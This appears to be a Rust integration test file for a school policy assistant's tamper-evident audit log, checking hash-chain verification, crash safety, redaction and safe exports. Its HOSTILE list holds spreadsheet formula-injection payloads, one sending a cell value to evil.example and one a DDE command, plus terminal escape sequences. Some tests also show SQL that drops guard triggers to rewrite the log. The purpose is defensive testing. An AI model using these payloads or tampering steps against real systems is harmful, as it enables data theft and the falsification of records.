//! The audit log through the binary: every question recorded, unknown askers
//! refused on the record, the chain verified, tampering named, exports, and a
//! crash (kill -9) in the middle of writing that loses and doubles nothing.

use std::io::{BufRead, BufReader};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::support::{BIN, STAFF, Sandbox, Serve, example_policies, get_page, http, read, sign_in};

fn sandbox() -> Sandbox {
    let s = Sandbox::empty();
    s.write_config_with(&[("oakfield", &example_policies())], STAFF);
    s
}

/// A sandbox whose log holds three answered questions.
fn sandbox_with_three_questions() -> Sandbox {
    let s = sandbox();
    for q in [
        "Can I share my password?",
        "Can I use a memory stick?",
        "Can I post photos of pupils?",
    ] {
        s.run(["ask", q]).assert_success();
    }
    s
}

#[test]
fn every_question_is_recorded_with_what_was_cited() {
    let s = sandbox();
    s.run([
        "ask",
        "--as",
        "A.Shah@oakfield.example",
        "Can I use WhatsApp to message parents?",
    ])
    .assert_success();
    s.run(["ask", "Where do I park my car for the staff parking permit?"])
        .assert_success();
    let events = s
        .run(["audit", "list", "--kind", "answered,declined,refused", "--json"])
        .assert_success()
        .json();
    let events = events.as_array().expect("a list");
    assert_eq!(events.len(), 2, "{events:?}");
    assert_eq!(events[0]["kind"], "answered");
    assert_eq!(events[0]["asker"], "oakfield:amira-shah");
    assert_eq!(events[0]["question"], "Can I use WhatsApp to message parents?");
    let cited = &events[0]["payload"]["citations"][0];
    assert!(cited["clause"].as_str().unwrap().starts_with("oakfield/"), "{cited}");
    assert_eq!(cited["version"], "2026-09-01");
    assert_eq!(events[1]["kind"], "declined");
    let unanswered = s
        .run(["audit", "list", "--unanswered", "--json"])
        .assert_success()
        .json();
    assert_eq!(unanswered.as_array().unwrap().len(), 1);
    s.run(["audit", "verify"]).assert_success();
}

#[test]
fn unknown_askers_are_told_and_recorded() {
    let s = sandbox();
    let run = s.run(["ask", "--as", "stranger@example.net", "Can I use WhatsApp?", "--json"]);
    let reply = run.assert_success().json();
    assert_eq!(reply["answered"], false);
    assert_eq!(reply["outcome"], "refused");
    assert!(reply["reply"].as_str().unwrap().contains("staff list"), "{reply}");
    let events = s
        .run(["audit", "list", "--kind", "answered,declined,refused", "--json"])
        .assert_success()
        .json();
    assert_eq!(events[0]["kind"], "refused");
    assert_eq!(events[0]["asker"], "unknown:stranger@example.net");
}

#[test]
fn tampering_is_named_by_verify() {
    let s = sandbox_with_three_questions();
    s.run(["audit", "verify"]).assert_success();
    let conn = rusqlite::Connection::open(s.store_path()).unwrap();
    // The database refuses edits and deletions outright…
    assert!(
        conn.execute("UPDATE audit_events SET payload = '{}' WHERE id = 2", [])
            .is_err()
    );
    assert!(conn.execute("DELETE FROM audit_events WHERE id = 2", []).is_err());
    // …and someone who removes that guard is still caught by the chain.
    conn.execute_batch("DROP TRIGGER audit_events_only_redaction;").unwrap();
    conn.execute(
        "UPDATE audit_events SET payload = '{\"verdict\":\"yes\"}' WHERE id = 2",
        [],
    )
    .unwrap();
    drop(conn);
    let run = s.run(["audit", "verify"]);
    run.assert_failure();
    assert!(run.stdout.contains("BROKEN at event 2"), "{run}");
}

#[test]
fn exports_csv_and_json_and_records_the_export() {
    let s = sandbox();
    s.run(["ask", "Can I use WhatsApp to message parents?"])
        .assert_success();
    let csv_path = s.path().join("audit.csv");
    s.run(["audit", "export", "--csv", "--out", csv_path.to_str().unwrap()])
        .assert_success();
    let csv = read(&csv_path);
    assert!(
        csv.starts_with("id,at,kind,school,asker,channel,reference,question,"),
        "{csv}"
    );
    assert!(csv.contains("Can I use WhatsApp to message parents?"));
    let json = s.run(["audit", "export", "--json"]).assert_success().json();
    assert!(
        json["events"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["kind"] == "exported"),
        "the CSV export was recorded"
    );
    let head = json["head"].as_str().expect("the export carries the head");
    s.run(["audit", "verify", "--head", head]).assert_success();
    s.run(["audit", "verify"]).assert_success();
    s.run(["audit", "export"]).assert_failure();
}

#[test]
fn retention_redacts_old_questions_and_the_chain_still_verifies() {
    let s = sandbox();
    // Top-level keys must come before the [[school]] tables.
    let config = format!("retention_days = 0\n{}", read(&s.config_path()));
    crate::support::write(&s.config_path(), config);
    s.run(["ask", "Can I use WhatsApp to message parents?"])
        .assert_success();
    std::thread::sleep(Duration::from_millis(20));
    let run = s.run(["audit", "retain"]);
    assert!(run.assert_success().stdout.starts_with("redacted 1 question"), "{run}");
    let events = s
        .run(["audit", "list", "--kind", "answered,declined,refused", "--json"])
        .assert_success()
        .json();
    assert!(events[0]["question"].is_null());
    assert_eq!(events[0]["question_hash"].as_str().unwrap().len(), 64);
    s.run(["audit", "verify"]).assert_success();
}

/// kill -9 while events are being written: every event acknowledged before
/// the kill is there, nothing is half-written, and writing resumes cleanly.
#[test]
fn a_crash_mid_write_loses_nothing_acknowledged() {
    let s = sandbox();
    let mut child = Command::new(BIN)
        .env("POLICYBOT_MODEL_DIR", crate::support::model_dir())
        .args([
            "--config",
            s.config_path().to_str().unwrap(),
            "audit",
            "load",
            "--events",
            "1000000",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("starting policybot");
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let mut acknowledged = 0i64;
    let started = Instant::now();
    while acknowledged < 200 && started.elapsed() < Duration::from_secs(60) {
        match lines.next() {
            Some(Ok(line)) => acknowledged = line.trim().parse().expect("an event id"),
            _ => break,
        }
    }
    child.kill().expect("kill -9");
    child.wait().unwrap();
    assert!(acknowledged >= 200, "the load never got going: {acknowledged} events");

    let v = s.run(["audit", "verify", "--json"]).assert_success().json();
    let after_crash = v["events"].as_i64().unwrap();
    assert!(
        after_crash >= acknowledged,
        "acknowledged {acknowledged}, found {after_crash}"
    );
    assert!(v["broken"].is_null(), "{v}");

    let run = s.run(["audit", "load", "--events", "25"]);
    let last: i64 = run.assert_success().stdout.lines().last().unwrap().parse().unwrap();
    assert_eq!(last, after_crash + 25, "ids continue without gaps or repeats");
    let v = s.run(["audit", "verify", "--json"]).assert_success().json();
    assert_eq!(v["events"].as_i64().unwrap(), after_crash + 25);
}

/// Questions a stranger might send: formulas for the e-safety lead's
/// spreadsheet, and terminal escapes for whoever runs `audit list`.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") whatsapp",
    "=cmd|' /C calc'!A0",
    "+SUM(1,2) whatsapp",
    "-2+3 whatsapp",
    "@SUM(1) whatsapp",
    "\tTabbed whatsapp",
    "\rCarriage whatsapp",
    "\u{1b}[31mRed\u{1b}[0m \u{1b}]0;owned\u{7} whatsapp \u{9b}2J",
];

/// The cells of a CSV export, read with a real CSV reader.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("a CSV record").iter().map(str::to_owned).collect())
        .collect()
}

/// No cell a spreadsheet would run as a formula, no raw control character;
/// the last row holds the log's head, which verifies.
fn assert_csv_is_safe(s: &Sandbox, text: &str) {
    let rows = csv_rows(text);
    assert!(rows.len() >= 2, "{text}");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula trigger starts a cell: {cell:?}"
            );
            assert!(
                !cell.chars().any(|c| c.is_control() && c != '\n'),
                "a raw control character: {cell:?}"
            );
        }
    }
    let hyperlink = rows
        .iter()
        .find(|r| r[7].contains("HYPERLINK"))
        .expect("the stranger's question is exported");
    assert_eq!(hyperlink[7], format!("'{}", HOSTILE[0]));
    assert!(
        rows.iter().any(|r| r[7].starts_with("\\u{1b}[31mRed")),
        "escapes are shown: {text}"
    );
    let last = rows.last().unwrap();
    assert_eq!(last[2], "audit-head", "{last:?}");
    let head = format!("{}:{}", last[0], last[16]);
    assert!(
        last[7].contains(&format!("policybot audit verify --head {head}")),
        "{last:?}"
    );
    s.run(["audit", "verify", "--head", &head]).assert_success();
}

#[test]
fn strangers_cannot_put_formulas_or_escapes_into_exports_and_listings() {
    let s = sandbox();
    for q in HOSTILE {
        s.run(["ask", "--as", "stranger@example.net", "--", q]).assert_success();
    }
    s.run(["ask", "--as", "A.Shah@oakfield.example", HOSTILE[0]])
        .assert_success();
    let out = s.path().join("audit.csv");
    s.run(["audit", "export", "--csv", "--out", out.to_str().unwrap()])
        .assert_success();
    assert_csv_is_safe(&s, &read(&out));

    let list = s.run(["audit", "list"]);
    list.assert_success();
    assert!(
        !list.stdout.chars().any(|c| c.is_control() && c != '\n'),
        "no raw control characters reach the terminal: {list}"
    );
    assert!(
        list.stdout.contains("\\u{1b}[31mRed\\u{1b}[0m \\u{1b}]0;owned\\u{7}"),
        "{list}"
    );
    assert!(list.stdout.contains("\\u{9b}2J"), "C1 controls too: {list}");
    // The JSON listing keeps the text as it was asked.
    let events = s
        .run(["audit", "list", "--kind", "refused", "--json"])
        .assert_success()
        .json();
    assert_eq!(events[7]["question"], HOSTILE[7]);
}

/// The CSR token of a dashboard form.
fn csrf(page: &str) -> String {
    let at = page.find("name=\"csrf\" value=\"").expect("a form with a CSRF token") + 19;
    page[at..].split('"').next().unwrap().to_owned()
}

fn form_encode(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' => (b as char).to_string(),
            b => format!("%{b:02X}"),
        })
        .collect()
}

fn post(addr: &str, cookie: &str, path: &str, body: &str) -> String {
    http(
        addr,
        &format!(
            "POST {path} HTTP/1.1\r\nHost: {addr}\r\nCookie: {cookie}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        ),
    )
}

fn body(response: &str) -> &str {
    response.split_once("\r\n\r\n").map_or("", |(_, b)| b)
}

/// The dashboard: the CSV download is as safe as the CLI's, every message
/// asked is recorded (an empty one too, with its id), NUL never reaches
/// the log, search finds only what is shown, and the audit page shows the
/// head.
#[test]
fn the_dashboard_exports_safely_records_everything_and_searches_what_it_shows() {
    let s = sandbox();
    for q in HOSTILE {
        s.run(["ask", "--as", "stranger@example.net", "--", q]).assert_success();
    }
    s.run(["ask", "Can I use WhatsApp to message parents?"])
        .assert_success();
    s.add_user("hannah", "esafety-lead", "correct horse battery");
    let server = Serve::start(&s);
    let addr = server.addr.to_string();
    let cookie = sign_in(&addr, "hannah", "correct horse battery");

    let csv = get_page(&addr, &cookie, "/export.csv");
    assert!(csv.starts_with("HTTP/1.1 200"), "{csv}");
    assert_csv_is_safe(&s, body(&csv));

    let token = csrf(&get_page(&addr, &cookie, "/ask"));
    let ask = |question: &str| {
        let page = post(
            &addr,
            &cookie,
            "/ask",
            &format!("csrf={token}&school=oakfield&question={}", form_encode(question)),
        );
        assert!(page.starts_with("HTTP/1.1 200"), "{page}");
        page
    };
    for (question, says) in [
        ("👍", ", as an empty question (nothing to answer)."),
        ("   ", ", as an empty question (nothing to answer)."),
        ("Can I\0 use a memory stick?", "."),
    ] {
        let page = ask(question);
        let recorded = page
            .split("Recorded as audit event ")
            .nth(1)
            .unwrap_or_else(|| panic!("{question:?}: {page}"));
        let id: String = recorded.chars().take_while(char::is_ascii_digit).collect();
        assert!(!id.is_empty(), "{question:?} has an event id: {page}");
        assert!(recorded[id.len()..].starts_with(says), "{question:?}: {page}");
    }
    let events = s
        .run(["audit", "list", "--kind", "answered,declined", "--json"])
        .assert_success()
        .json();
    let asked: Vec<&Value> = events
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["channel"] == "dashboard")
        .collect();
    assert_eq!(asked.len(), 3, "{events}");
    assert_eq!(asked[0]["payload"]["empty"], true);
    assert_eq!(asked[1]["payload"]["empty"], true);
    assert_eq!(
        asked[2]["question"], "Can I use a memory stick?",
        "NUL is dropped at intake"
    );

    // Search: what the page shows, not the JSON stored around it.
    let rows = |q: &str| get_page(&addr, &cookie, &format!("/?q={q}")).matches("<tr>").count() - 1;
    assert_eq!(rows("confidence"), 0);
    assert_eq!(rows("citations"), 0);
    assert_eq!(rows("_"), 0);
    assert_eq!(rows("%25"), 0);
    assert!(rows("whatsapp") >= 2);
    assert_eq!(rows("memory+stick"), 1);
    assert!(
        rows("stranger%40example.net") >= HOSTILE.len(),
        "the asker is shown, and found"
    );

    let audit = get_page(&addr, &cookie, "/audit");
    let head = s.run(["audit", "verify", "--json"]).assert_success().json()["head"]
        .as_str()
        .unwrap()
        .to_owned();
    let (id, _) = head.split_once(':').unwrap();
    let shown = audit
        .split("Head of the log: <code>")
        .nth(1)
        .and_then(|rest| rest.split("</code>").next())
        .unwrap_or_else(|| panic!("{audit}"));
    assert!(
        shown.split(':').next().unwrap().parse::<i64>().unwrap() <= id.parse::<i64>().unwrap(),
        "{shown} vs {head}"
    );
    s.run(["audit", "verify", "--head", shown]).assert_success();
    server.kill();
}

#[test]
fn an_emoji_only_question_is_recorded_and_the_cli_says_so() {
    let s = sandbox();
    let run = s.run(["ask", "👍🎉"]);
    run.assert_success();
    run.assert_stderr_contains(&["recorded as audit event ", ", an empty question"]);
    let reply = s.run(["ask", "--json", "🙂"]).assert_success().json();
    let events = s
        .run(["audit", "list", "--kind", "answered,declined,refused", "--json"])
        .assert_success()
        .json();
    assert_eq!(events.as_array().unwrap().len(), 2, "{events}");
    assert!(
        run.stderr.contains(&format!(
            "recorded as audit event {}, an empty question",
            events[0]["id"]
        )),
        "{run}"
    );
    assert_eq!(reply["event"], events[1]["id"], "{reply}");
    assert_eq!(reply["empty"], true, "{reply}");
    assert_eq!(events[0]["kind"], "declined");
    assert_eq!(events[0]["question"], "👍🎉");
    assert_eq!(events[0]["payload"]["empty"], true);
}

#[test]
fn a_long_question_is_stored_as_far_as_it_is_read() {
    let s = sandbox();
    let question = format!("Can I use WhatsApp to message parents? {}", "and also ".repeat(11_000));
    let chars = question.trim().chars().count();
    let run = s.run(["ask", &question]);
    assert!(
        run.assert_success().stdout.contains(&format!(
            "(Your message was {chars} characters long: I read, and recorded, only the first 2000.)"
        )),
        "{}",
        &run.stdout[..run.stdout.len().min(2000)]
    );
    let events = s
        .run(["audit", "list", "--kind", "answered,declined", "--json"])
        .assert_success()
        .json();
    let stored = events[0]["question"].as_str().unwrap();
    assert_eq!(stored.chars().count(), 2000);
    assert!(question.starts_with(stored));
    assert_eq!(events[0]["payload"]["cut"]["chars"], chars);
    assert!(s.run(["audit", "list"]).assert_success().stdout.contains("[cut]"));
}

/// `policybot serve`, expected to refuse to start: its exit and output.
fn serve_refuses(s: &Sandbox) -> String {
    let mut child = Command::new(BIN)
        .env("POLICYBOT_MODEL_DIR", crate::support::model_dir())
        .args([
            "--config",
            s.config_path().to_str().unwrap(),
            "serve",
            "--bind",
            "127.0.0.1:0",
        ])
        .env_remove("POLICYBOT_CONFIG")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("starting policybot serve");
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > Duration::from_secs(60) {
            child.kill().unwrap();
            child.wait().unwrap();
            panic!("serve started on a log it should not trust");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let out = child.wait_with_output().unwrap();
    assert!(!out.status.success());
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!text.contains("dashboard on"), "{text}");
    text
}

#[test]
fn a_question_erased_without_redaction_and_a_dropped_guard_are_caught() {
    let s = sandbox_with_three_questions();
    let asked = s.run(["audit", "list", "--kind", "answered,declined", "--json"]).json();
    let id = asked[1]["id"].as_i64().unwrap();
    let conn = rusqlite::Connection::open(s.store_path()).unwrap();
    // Minutes old, no redaction event: the database refuses.
    let erase = format!("UPDATE audit_events SET question = NULL WHERE id = {id}");
    assert!(conn.execute(&erase, []).is_err());
    conn.execute_batch("DROP TRIGGER audit_events_only_redaction;").unwrap();
    assert_eq!(conn.execute(&erase, []).unwrap(), 1);
    drop(conn);

    let run = s.run(["audit", "verify"]);
    run.assert_failure();
    assert!(run.stdout.contains(&format!("BROKEN at event {id}")), "{run}");
    assert!(run.stdout.contains("no redaction event covers it"), "{run}");
    assert!(
        run.stdout
            .contains("guard trigger audit_events_only_redaction is missing"),
        "{run}"
    );
    assert!(run.stdout.contains("policybot audit guard"), "{run}");
    let v = s.run(["audit", "verify", "--json"]).json();
    assert_eq!(v["guards"][0], "audit_events_only_redaction is missing", "{v}");

    let refused = serve_refuses(&s);
    assert!(refused.contains("not starting: the audit log"), "{refused}");
    assert!(refused.contains("audit_events_only_redaction is missing"), "{refused}");

    let ask = s.run(["ask", "Can I use WhatsApp?"]);
    ask.assert_success();
    ask.assert_stderr_contains(&["guard triggers are not in place", "audit_events_only_redaction"]);

    let guard = s.run(["audit", "guard"]);
    assert!(guard.stdout.contains("guard triggers put back"), "{guard}");
    let v = s.run(["audit", "verify", "--json"]).json();
    assert_eq!(v["guards"].as_array().unwrap().len(), 0, "{v}");
    assert_eq!(v["broken"][0], id, "the erased question stays on the record: {v}");
    let events = s.run(["audit", "list", "--kind", "guards-restored", "--json"]).json();
    assert_eq!(events.as_array().unwrap().len(), 1, "{events}");
    // Guards back, the chain still broken: still no service on it.
    let refused = serve_refuses(&s);
    assert!(refused.contains(&format!("BROKEN at event {id}")), "{refused}");
    assert!(refused.contains("restore it from a backup"), "{refused}");
}

#[test]
fn cutting_the_log_back_is_caught_by_a_head_kept_earlier() {
    let s = sandbox();
    s.run(["ask", "Can I share my password?"]).assert_success();
    s.run(["ask", "Can I use a memory stick?"]).assert_success();
    // The head as the e-safety lead's digest carries it.
    let digest = s.run(["acks", "--digest"]).assert_success().stdout.clone();
    let kept = digest
        .lines()
        .find_map(|l| l.strip_prefix("Audit log head: "))
        .and_then(|l| l.split(' ').next())
        .unwrap_or_else(|| panic!("{digest}"))
        .to_owned();
    assert!(
        digest.contains(&format!("policybot audit verify --head {kept}")),
        "{digest}"
    );
    s.run(["ask", "Can I post photos of pupils?"]).assert_success();
    s.run(["audit", "verify", "--head", &kept]).assert_success();
    let (kept_id, _) = kept.split_once(':').unwrap();
    let kept_id: i64 = kept_id.parse().unwrap();

    // Someone with the file deletes the newest rows (from the one the
    // digest named) and rewrites the head to match.
    let conn = rusqlite::Connection::open(s.store_path()).unwrap();
    let last = kept_id - 1;
    let rewind = format!(
        "UPDATE audit_head SET last_id = {last}, last_hash = (SELECT hash FROM audit_events WHERE id = {last})"
    );
    assert!(
        conn.execute(&format!("DELETE FROM audit_events WHERE id >= {kept_id}"), [])
            .is_err()
    );
    assert!(conn.execute(&rewind, []).is_err());
    conn.execute_batch(&format!(
        "PRAGMA foreign_keys = OFF; DROP TRIGGER audit_events_no_delete; DROP TRIGGER audit_head_forward;
         DELETE FROM audit_events WHERE id >= {kept_id}; {rewind};"
    ))
    .unwrap();
    drop(conn);
    // The dropped triggers are reported; once put back, the shortened
    // chain is consistent in itself…
    s.run(["audit", "verify"]).assert_failure();
    s.run(["audit", "guard"]).assert_success();
    // …but not with the head kept from the digest.
    let run = s.run(["audit", "verify", "--head", &kept]);
    run.assert_failure();
    assert!(
        run.stdout
            .contains(&format!("the head written down earlier, {kept}, does not hold")),
        "{run}"
    );
    // (`audit guard` recorded itself as the next event: the id is there
    // again, with another hash.)
    assert!(
        run.stdout
            .contains(&format!("event {kept_id} is in the log with another hash")),
        "{run}"
    );
    let v = s.run(["audit", "verify", "--json", "--head", &kept]).json();
    assert_eq!(v["anchor"]["held"], false, "{v}");
    s.run(["audit", "verify", "--head", "nonsense"]).assert_failure();
}
